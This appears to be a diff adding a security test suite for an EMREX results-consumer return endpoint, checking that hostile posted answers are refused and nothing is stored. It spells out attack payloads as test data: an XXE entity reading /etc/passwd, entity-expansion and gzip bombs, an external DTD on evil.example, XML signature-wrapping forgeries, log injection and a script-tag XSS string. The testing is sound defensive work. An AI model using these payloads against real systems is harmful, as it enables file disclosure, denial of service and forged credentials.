@@ -1,0 +1,412 @@
+"""Hostile answers at the EMC's return endpoint: refused with a page saying why, no document kept.
+
+Each case starts a real transfer as a logged-in student and posts the answer as the EMP's page
+would (without the student's cookie where that matters). Afterwards no table has a new row, the
+transfer holds no document, and no log line holds the planted markers.
+"""
+
+from __future__ import annotations
+
+import base64
+import copy
+import datetime as dt
+import gzip
+import os
+import re
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+from lxml import etree
+from sqlalchemy import select
+
+from emrex.elmo.codec import encode
+from emrex.elmo.sample import sample_elmo
+from emrex.elmo.writer import write_elmo
+from emrex.emc import create_emc_app
+from emrex.emc.config import EmcSettings
+from emrex.emc.models import Status, Transfer
+from emrex.emc.registries import Registries
+from emrex.registry import Country, Emp, Registry
+from emrex.trust import Signer, algorithms
+from emrex.trust.ca import Issued, issue, make_ca
+from tests.emc.conftest import (
+    ASA,
+    BASE_URL,
+    NORDVIK,
+    PASSWORD,
+    Keys,
+    answer,
+    database_of,
+    keys,
+    login,
+    make_emc,
+    make_settings,
+    migrated_template,
+    password_hash,
+    signed,
+    start,
+)
+from tests.hostile.cases import exercised
+from tests.hostile.checks import MARKER, logs_clean, no_traceback, nothing_stored, watch_logs
+
+__all__ = ["keys", "make_emc", "make_settings", "migrated_template", "password_hash", "watch_logs"]
+
+DS = "{http://www.w3.org/2000/09/xmldsig#}"
+E = "{https://github.com/emrex-eu/elmo-schemas/tree/v1}"
+ELMO_NS = "https://github.com/emrex-eu/elmo-schemas/tree/v1"
+READABLE = "not a readable document"
+NOT_ACCEPTED = "signature was not accepted"
+
+
+def _xml(body: str) -> bytes:
+    return f'<?xml version="1.0" encoding="UTF-8"?>{body}'.encode()
+
+
+def _doc(original: bytes, change: Callable[[etree._Element], None]) -> bytes:
+    root = etree.fromstring(original)
+    change(root)
+    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")
+
+
+def _sig(root: etree._Element) -> etree._Element:
+    found = root.find(DS + "Signature")
+    assert found is not None
+    return found
+
+
+def _forge(root: etree._Element) -> None:
+    given = root.find(f"{E}learner/{E}givenNames")
+    assert given is not None
+    given.text = MARKER
+
+
+def _second_signature(root: etree._Element) -> None:
+    root.append(copy.deepcopy(_sig(root)))
+
+
+def _signature_moved_down(root: etree._Element) -> None:
+    _forge(root)
+    report = root.find(E + "report")
+    assert report is not None
+    report.append(_sig(root))
+
+
+def _signed_nested_in_forged(root: etree._Element) -> None:
+    original = copy.deepcopy(root)
+    _forge(root)
+    etree.SubElement(root, E + "extension").append(original)
+
+
+def _extra_reference(root: etree._Element) -> None:
+    info = _sig(root).find(DS + "SignedInfo")
+    assert info is not None
+    extra = copy.deepcopy(info.find(DS + "Reference"))
+    extra.set("URI", "#forged")
+    info.append(extra)
+
+
+def _partial_reference(root: etree._Element) -> None:
+    # Signature over one element only: the learner could be anyone.
+    learner = root.find(E + "learner")
+    assert learner is not None
+    learner.set("Id", "only-this")
+    reference = _sig(root).find(f"{DS}SignedInfo/{DS}Reference")
+    assert reference is not None
+    reference.set("URI", "#only-this")
+    _forge(root)
+
+
+def _object_in_signature(root: etree._Element) -> None:
+    forged = etree.SubElement(_sig(root), DS + "Object")
+    forged.append(copy.deepcopy(root.find(E + "learner")))
+    _forge(root)
+
+
+def _xslt_transform(root: etree._Element) -> None:
+    transforms = _sig(root).find(f"{DS}SignedInfo/{DS}Reference/{DS}Transforms")
+    assert transforms is not None
+    etree.SubElement(transforms, DS + "Transform", Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116")
+
+
+def _foreign_namespace_signature(root: etree._Element) -> None:
+    signature = _sig(root)
+    signature.tag = "{http://evil.example/dsig}Signature"
+    _forge(root)
+
+
+def _bomb(size: int) -> str:
+    return base64.b64encode(gzip.compress(b"<" + b" " * size, compresslevel=9)).decode()
+
+
+def _deep(depth: int) -> bytes:
+    return _xml(f'<elmo xmlns="{ELMO_NS}">' + "<extension>" * depth + "</extension>" * depth + "</elmo>")
+
+
+def _huge_attribute() -> bytes:
+    # Random text does not compress: this is no bomb, just one attribute beyond libxml2's 10 MB.
+    value = base64.b64encode(os.urandom(8 * 1024 * 1024)).decode()
+    return _xml(f'<elmo xmlns="{ELMO_NS}" a="{value}"/>')
+
+
+# case id -> (the elmo form value, given the signing keys; words the refusal names)
+VALUE_ATTACKS: dict[str, tuple[Callable[[Keys], str], str]] = {
+    "emc-return-xxe": (
+        lambda k: encode(
+            _xml(
+                '<!DOCTYPE elmo [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+                f'<elmo xmlns="{ELMO_NS}"><learner><givenNames>&x;</givenNames></learner></elmo>'
+            )
+        ),
+        READABLE,
+    ),
+    "emc-return-entity-expansion": (
+        lambda k: encode(
+            _xml(
+                '<!DOCTYPE elmo [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+                '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
+                f'<elmo xmlns="{ELMO_NS}"><learner><givenNames>&d;&d;&d;</givenNames></learner></elmo>'
+            )
+        ),
+        READABLE,
+    ),
+    "emc-return-dtd": (
+        lambda k: encode(
+            _xml(f'<!DOCTYPE elmo SYSTEM "http://evil.example/e.dtd"><elmo xmlns="{ELMO_NS}"/>')
+        ),
+        READABLE,
+    ),
+    # Plain base64 of XML (peers send it too): no gzip, so no ratio check stops it before the parser.
+    "emc-return-deep-nesting": (lambda k: base64.b64encode(_deep(50_000)).decode(), READABLE),
+    "emc-return-huge-attribute": (lambda k: encode(_huge_attribute()), READABLE),
+    "emc-return-invalid-utf8": (
+        lambda k: encode(
+            _xml(
+                f'<elmo xmlns="{ELMO_NS}"><learner><givenNames>\udcff</givenNames></learner></elmo>'.replace(
+                    "\udcff", "ZZ"
+                )
+            ).replace(b"ZZ", b"\xff\xfe")
+        ),
+        READABLE,
+    ),
+    "emc-return-gzip-bomb": (lambda k: _bomb(2 * 1024 * 1024), "too large"),
+    "emc-return-nested-gzip": (
+        lambda k: base64.b64encode(gzip.compress(gzip.compress(signed(k.nordvik)))).decode(),
+        "",
+    ),
+    "emc-return-truncated-gzip": (
+        lambda k: base64.b64encode(gzip.compress(signed(k.nordvik))[:-200]).decode(),
+        "could not be unpacked",
+    ),
+    "emc-return-malformed-base64": (lambda k: "H4sI" + "%" * 40 + MARKER, "could not be unpacked"),
+    "emc-return-second-signature": (
+        lambda k: encode(_doc(signed(k.nordvik), _second_signature)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-signature-moved-down": (
+        lambda k: encode(_doc(signed(k.nordvik), _signature_moved_down)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-signed-nested-in-forged": (
+        lambda k: encode(_doc(signed(k.nordvik), _signed_nested_in_forged)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-extra-reference": (lambda k: encode(_doc(signed(k.nordvik), _extra_reference)), NOT_ACCEPTED),
+    "emc-return-partial-signature": (
+        lambda k: encode(_doc(signed(k.nordvik), _partial_reference)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-object-in-signature": (
+        lambda k: encode(_doc(signed(k.nordvik), _object_in_signature)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-xslt-transform": (lambda k: encode(_doc(signed(k.nordvik), _xslt_transform)), NOT_ACCEPTED),
+    "emc-return-foreign-namespace-signature": (
+        lambda k: encode(_doc(signed(k.nordvik), _foreign_namespace_signature)),
+        NOT_ACCEPTED,
+    ),
+    "emc-return-keyinfo-stranger": (lambda k: encode(signed(k.stranger)), NOT_ACCEPTED),
+}
+exercised(*VALUE_ATTACKS)
+
+
+def transfer_of(client: TestClient, session_id: str) -> Transfer:
+    with database_of(client).session() as s:
+        transfer = s.scalars(select(Transfer).where(Transfer.session_id == session_id)).one()
+        s.expunge(transfer)
+        return transfer
+
+
+def refused(
+    client: TestClient,
+    session_id: str,
+    response: Any,
+    words: str,
+    caplog: pytest.LogCaptureFixture,
+    *,
+    echoed: bool = False,
+) -> None:
+    assert response.status_code == 400, response.text
+    assert "The results were not accepted" in response.text
+    assert words in response.text, re.findall(r"Details: (.*)</p>", response.text)
+    no_traceback(response.text)
+    assert echoed or MARKER not in response.text
+    transfer = transfer_of(client, session_id)
+    assert transfer.status == Status.FAILED
+    assert transfer.elmo_xml is None and transfer.pdf is None and transfer.signer is None
+    logs_clean(caplog)
+
+
+@pytest.fixture
+def student(make_emc: Callable[..., TestClient]) -> TestClient:
+    client = make_emc()
+    login(client)
+    return client
+
+
+@pytest.mark.parametrize("case_id", sorted(VALUE_ATTACKS))
+def test_hostile_elmo_values(
+    student: TestClient, keys: Keys, watch_logs: pytest.LogCaptureFixture, case_id: str
+) -> None:
+    build, words = VALUE_ATTACKS[case_id]
+    session_id = start(student)
+    value = build(keys)
+    with nothing_stored(database_of(student)):
+        response = answer(student, session_id, elmo=value)
+    refused(student, session_id, response, words, watch_logs)
+
+
+exercised(
+    "emc-return-session-replayed",
+    "emc-return-session-other-student",
+    "emc-return-session-expired",
+    "emc-return-session-unknown",
+    "emc-return-session-oversized",
+    "emc-return-fields-as-files",
+    "emc-return-code-log-injection",
+    "emc-return-oversized-post",
+    "emc-return-message-markup",
+)
+
+
+def _no_transfer_touched(response: Any, status: int, words: str, caplog: pytest.LogCaptureFixture) -> None:
+    assert response.status_code == status, response.text
+    assert "The results were not accepted" in response.text
+    assert words in response.text
+    no_traceback(response.text)
+    logs_clean(caplog)
+
+
+def test_a_replayed_session_id_is_refused(
+    student: TestClient, keys: Keys, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    session_id = start(student)
+    first = answer(student, session_id, elmo=encode(signed(keys.nordvik)))
+    assert first.status_code == 303
+    kept = transfer_of(student, session_id)
+    assert kept.elmo_xml is not None
+    with nothing_stored(database_of(student)):
+        again = answer(student, session_id, elmo=encode(signed(keys.nordvik)))
+    _no_transfer_touched(again, 409, "used once", watch_logs)
+    assert transfer_of(student, session_id).returned_at == kept.returned_at
+
+
+def test_another_students_session_id_is_refused(
+    make_emc: Callable[..., TestClient], keys: Keys, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    asa, bo = make_emc(), make_emc()
+    login(asa, "asa")
+    login(bo, "bo")
+    session_id = start(asa)
+    with nothing_stored(database_of(bo)):
+        response = answer(bo, session_id, elmo=encode(signed(keys.nordvik)))
+    _no_transfer_touched(response, 403, "started by someone else", watch_logs)
+    assert transfer_of(asa, session_id).status == Status.STARTED
+
+
+def test_an_expired_session_id_is_refused(
+    student: TestClient, keys: Keys, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    session_id = start(student)
+    later = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
+    with nothing_stored(database_of(student)), pytest.MonkeyPatch.context() as patch:
+        patch.setattr("emrex.emc.student.utcnow", lambda: later)
+        response = answer(student, session_id, elmo=encode(signed(keys.nordvik)))
+    _no_transfer_touched(response, 410, "expired", watch_logs)
+    assert transfer_of(student, session_id).status == Status.STARTED
+
+
+@pytest.mark.parametrize(
+    ("case_id", "session_id", "words"),
+    [
+        ("emc-return-session-unknown", "f" * 32, "no transfer was started"),
+        ("emc-return-session-oversized", "f" * 32 + MARKER * 5000, "no valid sessionId"),
+    ],
+)
+def test_unknown_session_ids_touch_nothing(
+    student: TestClient,
+    keys: Keys,
+    watch_logs: pytest.LogCaptureFixture,
+    case_id: str,
+    session_id: str,
+    words: str,
+) -> None:
+    start(student)
+    with nothing_stored(database_of(student)):
+        response = answer(student, session_id, elmo=encode(signed(keys.nordvik)))
+    _no_transfer_touched(response, 400, words, watch_logs)
+
+
+def test_fields_sent_as_files_are_not_read(
+    student: TestClient, keys: Keys, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    session_id = start(student)
+    files = {"elmo": ("elmo.txt", encode(signed(keys.nordvik)).encode())}
+    data = {"sessionId": session_id, "returnCode": "NCP_OK"}
+    with nothing_stored(database_of(student)):
+        response = student.post("/emrex/return", data=data, files=files, follow_redirects=False)
+    refused(student, session_id, response, "sent no results", watch_logs)
+
+
+def test_a_return_code_cannot_write_into_the_log(
+    student: TestClient, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    session_id = start(student)
+    with nothing_stored(database_of(student)):
+        response = answer(student, session_id, code=MARKER + "\nINFO forged line")
+    # The page quotes the code back (escaped) to the one who sent it; the log does not.
+    refused(student, session_id, response, "unknown return code", watch_logs, echoed=True)
+    assert not any("forged line" in r.getMessage() for r in watch_logs.records)
+
+
+def test_an_oversized_return_post_is_refused_before_it_is_read(
+    make_emc: Callable[..., TestClient],
+    make_settings: Callable[..., EmcSettings],
+    watch_logs: pytest.LogCaptureFixture,
+) -> None:
+    client = make_emc(make_settings(limits={"max_post_mb": 1}))
+    login(client)
+    session_id = start(client)
+    with nothing_stored(database_of(client)):
+        response = answer(client, session_id, elmo="A" * (2 * 1024 * 1024) + MARKER)
+    assert response.status_code == 413
+    no_traceback(response.text)
+    logs_clean(watch_logs)
+    assert transfer_of(client, session_id).status == Status.STARTED
+
+
+def test_markup_in_a_huge_return_message_is_clipped_and_escaped(
+    student: TestClient, watch_logs: pytest.LogCaptureFixture
+) -> None:
+    session_id = start(student)
+    message = "<script>alert(1)</script>" + MARKER + "x" * 1_000_000
+    response = answer(student, session_id, "NCP_ERROR", message=message)
+    assert response.status_code == 303
+    transfer = transfer_of(student, session_id)
+    assert transfer.status == Status.EMP_ERROR and transfer.elmo_xml is None
+    page = student.get(response.headers["location"])
+    assert "<script>alert(1)" not in page.text and "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
+    assert len(page.text) < 200_000
+    no_traceback(page.text)
+    logs_clean(watch_logs)
